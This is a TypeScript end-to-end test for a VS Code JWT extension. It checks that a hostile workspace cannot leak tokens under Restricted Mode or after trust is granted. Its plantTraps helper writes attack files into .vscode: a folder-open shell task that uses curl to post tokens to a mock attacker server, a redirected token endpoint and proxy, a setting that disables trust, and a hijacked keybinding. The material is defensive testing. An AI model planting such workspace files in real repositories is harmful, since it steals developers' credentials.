import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type MockServer, startMockServer } from '../../src/mock/nodeServer.ts';
import { type LoopbackServer, loopbackServer, reply } from '../support/loopbackServer.ts';
import { type UiWindow, useWorkbench } from './harness.ts';
import { secretsAreKept } from './secrets.ts';

/** The user's own keybindings, which call hidden commands with an argument and without a question. */
const keys = {
  importTokens: 'Control+Shift+F2',
  refresh: 'Control+Shift+F3',
  copyToken: 'Control+Shift+F4',
  refreshAll: 'Control+Shift+F6',
  addConnection: 'Control+Shift+F7',
} as const;

describe('a hostile workspace', function () {
  this.timeout(120_000);
  let mock: MockServer;
  /** Records every request, and responds like an issuer that collects tokens. */
  let thief: LoopbackServer;
  let refreshToken: string;
  const keybindings: object[] = [];
  const userSettings: Record<string, unknown> = {
    'security.workspace.trust.startupPrompt': 'never',
    'security.workspace.trust.banner': 'never',
  };
  before(async () => {
    mock = await startMockServer({ alg: 'ES256', rotation: 'strict' });
    thief = await loopbackServer(({ path }, response) => {
      const { origin } = thief;
      const metadata = { issuer: origin, token_endpoint: `${origin}/token`, jwks_uri: `${origin}/jwks` };
      reply(response, 200, path.includes('well-known') ? metadata : { access_token: 'stolen' });
    });
    userSettings['jwtWorkbench.connections'] = [{ id: 'shop', label: 'Shop', issuer: mock.issuer, clientId: 'demo' }];
    const tokens = await mock.issueTokens({ clientId: 'demo' });
    refreshToken = String(tokens.refresh_token);
    const connection = { id: 'added', issuer: mock.issuer, clientId: 'demo' };
    keybindings.push(
      binding('importTokens', { connection: 'shop', text: JSON.stringify(tokens) }),
      binding('refresh', { connection: 'shop' }),
      binding('copyToken', { connection: 'shop' }),
      binding('refreshAll', {}),
      binding('addConnection', { connection }),
    );
  });
  // With all that is built into VS Code, as any of it may do what a workspace says.
  const ui = useWorkbench({
    ...{ workspaceTrust: true, lean: false, userSettings, keybindings },
    ...{ keepsSecrets: true, opens: 'nothing' },
  });
  after(() => Promise.all([mock.close(), thief.close()]));

  const press = (window: UiWindow, name: keyof typeof keys) => window.page.keyboard.press(keys[name]);
  const refreshes = () => mock.requests.filter(({ grant_type }) => grant_type === 'refresh_token');
  const row = (window: UiWindow, spoken: string) =>
    window.page.locator(`[role=treeitem][aria-label^="${spoken}"]`).first();

  /** The commands that were refused for lack of trust, according to the log. */
  async function refused(): Promise<Set<string>> {
    const logs = join(ui.workbench.server.userDataDir, 'logs');
    const names = new Set<string>();
    for (const name of await readdir(logs, { recursive: true }).catch(() => [])) {
      if (!name.endsWith('.log')) continue;
      const text = await readFile(join(logs, name), 'utf8');
      for (const [, command = ''] of text.matchAll(/command (\w+) failed.*not_trusted/g)) names.add(command);
    }
    return names;
  }

  /** The user signs in, where nothing is hostile. */
  async function signIn(): Promise<void> {
    const window = await ui.openWindow('');
    await window.openContainer('JWT Workbench');
    await row(window, 'Connection Shop').waitFor();
    await press(window, 'importTokens');
    await window.expand(row(window, 'Connection Shop'));
    await row(window, 'Access token').waitFor();
    await secretsAreKept(window.page);
    await window.page.close();
  }

  /** The window with the hostile workspace. The first test that needs it opens it. */
  async function openHostile(): Promise<UiWindow> {
    if (ui.window) return ui.window;
    await signIn();
    const window = await ui.openWindow(await plantTraps(ui.folder, thief.origin));
    ui.window = window;
    await window.openContainer('JWT Workbench');
    await window.statusBarItem('Restricted Mode').waitFor();
    await window.expand(row(window, 'Connection Shop'));
    await window.treeItem('paused until you trust the workspace').waitFor();
    return window;
  }

  it('is opened in Restricted Mode: no connection of its own, no token sent anywhere, no hidden command', async () => {
    const sent = refreshes().length;
    const window = await openHostile();
    assert.deepEqual(
      (await window.treeRows()).filter(text => /^Connection/.test(text) && !/^Connection Shop/.test(text)),
      [],
    );
    for (const name of ['refresh', 'importTokens', 'copyToken', 'refreshAll', 'addConnection'] as const) {
      await press(window, name);
      await until(async () => (await refused()).has(name));
    }
    assert.equal(refreshes().length, sent, 'nothing is refreshed');
    assert.deepEqual(thief.requests, []);
  });

  it('is trusted: the user’s own connections work, the workspace’s are still none', async () => {
    const window = await openHostile();
    const sent = refreshes().length;
    await window.runCommand('Workspaces: Manage Workspace Trust');
    await window.press(window.page.getByRole('button', { name: 'Trust', exact: true }).first(), timeout =>
      window.statusBarItem('Restricted Mode').waitFor({ state: 'detached', timeout }),
    );
    await press(window, 'refresh');
    await until(() => refreshes().length > sent && refreshes().at(-1)?.status === 200);
    assert.deepEqual([...new Set(refreshes().map(({ status }) => status))], [200]);
    assert.deepEqual(
      (await window.treeRows()).filter(text => /^Connection/.test(text) && !/^Connection Shop/.test(text)),
      [],
    );
    const told = JSON.stringify(thief.requests);
    assert.ok(!told.includes(refreshToken) && !told.includes('eyJ') && !told.includes('/token'), told);
  });

  function binding(name: keyof typeof keys, args: object) {
    return {
      key: keys[name].replace('Control', 'Ctrl').toLowerCase(),
      command: `jwtWorkbench.${name}`,
      args,
    };
  }
});

/** Writes everything that a repository can contain to get tokens sent to `origin`. */
async function plantTraps(folder: string, origin: string): Promise<string> {
  const own = { id: 'evil', label: 'Evil', issuer: origin, clientId: 'demo' };
  const redirected = {
    id: 'shop',
    label: 'Shop',
    issuer: origin,
    clientId: 'demo',
    tokenEndpoint: `${origin}/token`,
  };
  const settings = {
    'jwtWorkbench.connections': [redirected, own],
    jwtWorkbench: { connections: [redirected, own] },
    'http.proxy': origin,
    'http.proxyStrictSSL': false,
    'security.workspace.trust.enabled': false,
    'task.allowAutomaticTasks': 'on',
  };
  const task = {
    label: 'steal',
    type: 'shell',
    command: `curl -d "\${command:jwtWorkbench.copyToken}" -d "\${input:token}" ${origin}/task`,
    runOptions: { runOn: 'folderOpen' },
  };
  const inputs = [{ id: 'token', type: 'command', command: 'jwtWorkbench.refresh', args: { connection: 'shop' } }];
  const launch = {
    name: 'steal',
    type: 'node',
    request: 'launch',
    program: `\${command:jwtWorkbench.copyToken}`,
  };
  const bindings = [{ key: 'escape', command: 'jwtWorkbench.copyToken', args: { connection: 'shop' } }];
  const recommendations = ['evil.token-thief'];
  const files = {
    'settings.json': settings,
    'tasks.json': { version: '2.0.0', tasks: [task], inputs },
    'launch.json': { version: '0.2.0', configurations: [launch], inputs },
    'extensions.json': { recommendations },
    'keybindings.json': bindings,
  };
  await mkdir(join(folder, '.vscode'), { recursive: true });
  for (const [name, content] of Object.entries(files))
    await writeFile(join(folder, '.vscode', name), JSON.stringify(content));
  const file = join(folder, 'shop.code-workspace');
  await writeFile(
    file,
    JSON.stringify({
      folders: [{ path: '.' }],
      settings,
      tasks: { version: '2.0.0', tasks: [task], inputs },
      launch: { version: '0.2.0', configurations: [launch] },
      extensions: { recommendations },
    }),
  );
  return file;
}

/** The test's own timeout ends the wait. */
async function until(condition: () => boolean | Promise<boolean>): Promise<void> {
  while (!(await condition())) await new Promise(resolve => setTimeout(resolve, 50));
}
